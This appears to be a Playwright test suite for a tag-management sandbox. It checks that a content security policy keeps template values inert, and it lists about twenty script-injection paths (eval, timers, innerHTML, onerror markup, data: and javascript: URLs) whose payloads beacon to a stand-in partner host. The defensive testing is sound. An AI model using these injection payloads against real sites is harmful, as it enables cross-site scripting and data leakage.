/**
 * In the sandbox the browser lets the template's own code run and no other (DESIGN §8): whatever a template does with a
 * value, code and markup in it stay dead. Each way is also run without that policy, to see that it would have fired.
 */
import { expect } from 'playwright/test';
import type { Trl } from '../sdk/client.ts';
import type { TestCollector } from './support/tagHarness.ts';
import { idOf, test } from './support/tagTest.ts';

test.describe.configure({ mode: 'default' });

const RUNS = 'new Image().src = "PARTNER/pwned";';
const MARKUP = "<img src=x: onerror='new Image().src = `PARTNER/pwned`'>";
/** Read back from the document, as no compiler follows it: `o` is the value. */
const READ = '<p id="o" data-order="{{X}}"></p><script>var o = document.getElementById("o").dataset.order;';
const LATER = 'document.body.appendChild(document.createElement("hr"));';

/** Ways from a value to code: the template behind `READ`, and the value. */
const WAYS: Record<string, [script: string, value: string]> = {
  eval: ['try { (0, eval)(o) } catch (e) {} </script>', RUNS],
  Function: ['try { new Function(o)() } catch (e) {} </script>', RUNS],
  'a constructor by another name': ['try { [].at.constructor(o)() } catch (e) {} </script>', RUNS],
  'a timer': ['var later = setTimeout; try { later(o, 0) } catch (e) {} </script>', RUNS],
  innerHTML: ['document.getElementById("o").innerHTML = o </script>', MARKUP],
  'document.write': ['document.write(o) </script>', `<script>${RUNS}</script>`],
  'document.write of a handler': ['document.write(o) </script>', MARKUP],
  insertAdjacentHTML: ['document.body.insertAdjacentHTML("beforeend", o) </script>', MARKUP],
  'a fragment': [
    'document.body.append(document.createRange().createContextualFragment(o)) </script>',
    `<script>${RUNS}</script>`,
  ],
  'a script’s text': [
    'var s = document.createElement("script"); try { s.text = o; document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'a script’s child': [
    'var s = document.createElement("script"); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'the text of a script that is there': [
    'try { document.getElementById("s").append(o) } catch (e) {} </script><script id="s"></script><script>try { document.getElementById("s").append(o) } catch (e) {} </script>',
    RUNS,
  ],
  'a copy of a script': [
    'var old = document.scripts[document.scripts.length - 1], s = document.createElement("script"); for (var i = 0; i < old.attributes.length; i++) s.setAttribute(old.attributes[i].name, old.attributes[i].value); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'a script’s address': [
    'var s = document.createElement("script"); try { s.src = o; document.body.append(s) } catch (e) {} </script>',
    'data:text/javascript,new Image().src="PARTNER/pwned"',
  ],
  'a script’s address at a host for images': [
    'var s = document.createElement("script"); try { s.src = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
    'PARTNER/gadget.js',
  ],
  'a module': ['import(o).catch(function () {}) </script>', 'data:text/javascript,new Image().src="PARTNER/pwned"'],
  'a module at a host for images': [
    'import(o).catch(function () {}) </script><img src="PARTNER/x.gif">',
    'PARTNER/gadget.js',
  ],
  'a handler’s attribute': [
    'try { document.body.setAttribute("onclick", o); document.body.click() } catch (e) {} </script>',
    RUNS,
  ],
  'a frame’s document': [
    'var f = document.createElement("iframe"); try { f.srcdoc = o; document.body.append(f) } catch (e) {} </script>',
    `<script>${RUNS}</script>`,
  ],
  'a frame whose address is code': [
    'var f = document.createElement("iframe"); f.src = o; document.body.append(f) </script>',
    'javascript:void(new Image().src = "PARTNER/pwned")',
  ],
  'a parsed document': [
    'document.body.append(new DOMParser().parseFromString(o, "text/html").body.firstChild) </script>',
    MARKUP,
  ],
  'markup that uses the template’s handler': [
    `document.body.insertAdjacentHTML("beforeend", o); ${LATER} </script><img alt="" src="PARTNER/x.gif" onload="document.title = 'loaded'">`,
    `<img src=x: onerror="document.title = 'other'; new Image().src = 'PARTNER/pwned'">`,
  ],
};
const NAMES = Object.keys(WAYS);

const receiptsOf = async (collector: TestCollector, result: unknown) => (await collector.event(idOf(result))).receipts;

test.beforeAll(async ({ collector, partner }) => {
  for (const [index, [script]] of Object.values(WAYS).entries()) {
    partner.scripts.set(`/gadget-${index}.js`, `new Image().src = "${partner.url}/pwned-${index}";`);
    await collector.addPixel(
      `way-${index}`,
      `Way${index}`,
      `${READ}${script}`.replaceAll('PARTNER', partner.url),
      true,
    );
  }
});
test.beforeEach(({ partner }) => {
  partner.hits.length = 0;
});

/** Each way's code asks for an address of its own. */
const hostileValue = (name: string, index: number, partner: string) =>
  (WAYS[name]?.[1] ?? '')
    .replaceAll('PARTNER/gadget.js', `${partner}/gadget-${index}.js`)
    .replaceAll('PARTNER/pwned', `${partner}/pwned-${index}`);

test('a value stays dead, whatever the template does with it', async ({ page, put, collector, partner }) => {
  await page.goto(put('/enforced'));
  const results: unknown[] = [];
  for (const [index, name] of NAMES.entries()) {
    const value = hostileValue(name, index, partner.url);
    const result = await page.evaluate(
      ([event, value]) => (window.trl as Trl).track(`${event}`, { x: value }),
      [`Way${index}`, value],
    );
    expect(result, name).toMatchObject({ ok: true, pixels: 1 });
    results.push(result);
  }
  for (const [index, name] of NAMES.entries()) {
    await expect.poll(() => receiptsOf(collector, results[index]), name).toHaveLength(1);
  }
  // torn down: what was to happen in them has happened
  await expect.poll(() => page.locator('iframe').count()).toBe(0);
  expect(partner.hits.filter((hit) => !hit.startsWith('/x.gif')).map(nameOfHit)).toEqual([]);
});

const nameOfHit = (hit: string) => `${hit}: ${NAMES[Number(/-(\d+)/.exec(hit)?.[1])]}`;

test('each of these ways fires where the policy is missing', async ({ page, put, partner }) => {
  await page.goto(put('/control'));
  for (const [index, name] of NAMES.entries()) {
    const [script = ''] = WAYS[name] ?? [];
    const value = hostileValue(name, index, partner.url);
    const filled = value.replace(/[&"<>]/g, (sign) => `&#${sign.charCodeAt(0)};`);
    const html = `${READ.replace('{{X}}', () => filled)}${script}`.replaceAll('PARTNER', partner.url);
    await page.evaluate((html) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = `<!doctype html><body>${html}`;
      document.body.append(frame);
    }, html);
    await expect.poll(() => partner.hits, name).toContain(`/pwned-${index}`);
  }
});

test('the template’s own scripts, handlers and libraries run', async ({ page, put, collector, partner }) => {
  partner.scripts.set('/own.js', `new Image().src = "${partner.url}/library?" + own;`);
  partner.scripts.set('/late.js', `new Image().src = "${partner.url}/late";`);
  await collector.addPixel(
    'own',
    'Own',
    `<script>var own = "{{X}}"; new Image().src = "${partner.url}/inline?" + encodeURIComponent(own);</script>
<script src="${partner.url}/own.js"></script>
<script>var s = document.createElement("script"); s.async = true; s.src = "${partner.url}/late.js"; document.head.appendChild(s);</script>
<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="new Image().src = '${partner.url}/handler'">
<script type="module">new Image().src = "${partner.url}/module";</script>
<script>document.write('<img src="${partner.url}/written?v={{X}}">');</script>`,
    true,
  );
  await page.goto(put('/own'));
  const result = await page.evaluate(() => (window.trl as Trl).track('Own', { x: 'a b' }));
  await expect.poll(() => receiptsOf(collector, result)).toMatchObject([{ outcome: 'ran' }]);
  await expect
    .poll(() => partner.hits.toSorted())
    .toEqual(
      [
        ...['/handler', '/inline?a%20b', '/late', '/late.js', '/library?a%20b', '/module', '/own.js'],
        '/written?v=a%20b',
      ].sort(),
    );
});

test('no script can read a nonce', async ({ page, put, collector, partner }) => {
  const own = '<script>window.own = document.currentScript;</script>';
  const told =
    '[own.nonce, own.getAttribute("nonce"), own.cloneNode(true).nonce, document.documentElement.outerHTML.match(/nonce="[A-Za-z0-9+/]/)].join("|")';
  await collector.addPixel(
    'nonce-reader',
    'NonceReader',
    `${own}<script>new Image().src = "${partner.url}/nonce?" + encodeURIComponent(${told});</script>`,
    true,
  );
  await page.goto(put('/nonce'));
  await page.evaluate(() => (window.trl as Trl).track('NonceReader'));
  await expect.poll(() => partner.hits).toEqual(['/nonce?%7C%7C%7C']);
});
